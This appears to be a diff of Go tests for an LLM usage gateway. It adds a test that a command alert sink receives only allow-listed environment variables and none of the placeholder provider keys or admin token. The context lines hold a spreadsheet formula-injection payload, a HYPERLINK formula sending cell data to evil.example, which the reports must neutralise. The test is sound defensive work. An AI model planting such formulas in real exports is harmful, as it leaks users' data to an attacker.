@@ -1,9 +1,16 @@
 package main
 
 import (
+	"context"
 	"encoding/csv"
+	"encoding/json"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/tokenmeter/tokenmeter/internal/alerts"
 )
 
 // TestHostileNamesThroughGateway: a client chooses its model name (with a
@@ -43,5 +50,34 @@ func TestHostileNamesThroughGateway(t *testing.T) {
 		if by == "project" && rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"open")` {
 			t.Errorf("report --csv --by project: key cell %q; want the project behind a quote", rows[1][1])
 		}
+	}
+}
+
+// TestCommandSinkEnvironment: a command sink of the config runs with the
+// allow-list and the variables its env: names, never the gateway's
+// provider keys or admin token (issue 13 item 7).
+func TestCommandSinkEnvironment(t *testing.T) {
+	out := filepath.Join(t.TempDir(), "env.txt")
+	env := map[string]string{"PATH": os.Getenv("PATH"), "ANTHROPIC_API_KEY": "sk-ant-leak", "OPENAI_ADMIN_KEY": "sk-admin-leak",
+		"TOKENMETER_ADMIN_TOKEN": "admin-leak", "PAGER_TOKEN": "pager-ok", "TZ": "Europe/Berlin"}
+	getenv := func(k string) string { return env[k] }
+	a := AlertsConfig{Sinks: []SinkConfig{{Name: "pager", Type: "command", Command: "env > " + out, Env: []string{"PAGER_TOKEN"}}}}
+	if errs := a.validate(); len(errs) > 0 {
+		t.Fatal(errs)
+	}
+	sinks, _, err := a.sinks(getenv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := alerts.Sample(time.Now())
+	payload, _ := json.Marshal(m)
+	if err := sinks[0].Send(context.Background(), m, payload); err != nil {
+		t.Fatal(err)
+	}
+	b, _ := os.ReadFile(out)
+	got := string(b)
+	if strings.Contains(got, "leak") || !strings.Contains(got, "PAGER_TOKEN=pager-ok") || !strings.Contains(got, "TZ=Europe/Berlin") ||
+		!strings.Contains(got, "TOKENMETER_ALERT_EVENT=firing") {
+		t.Errorf("the command's environment:\n%s", got)
 	}
 }
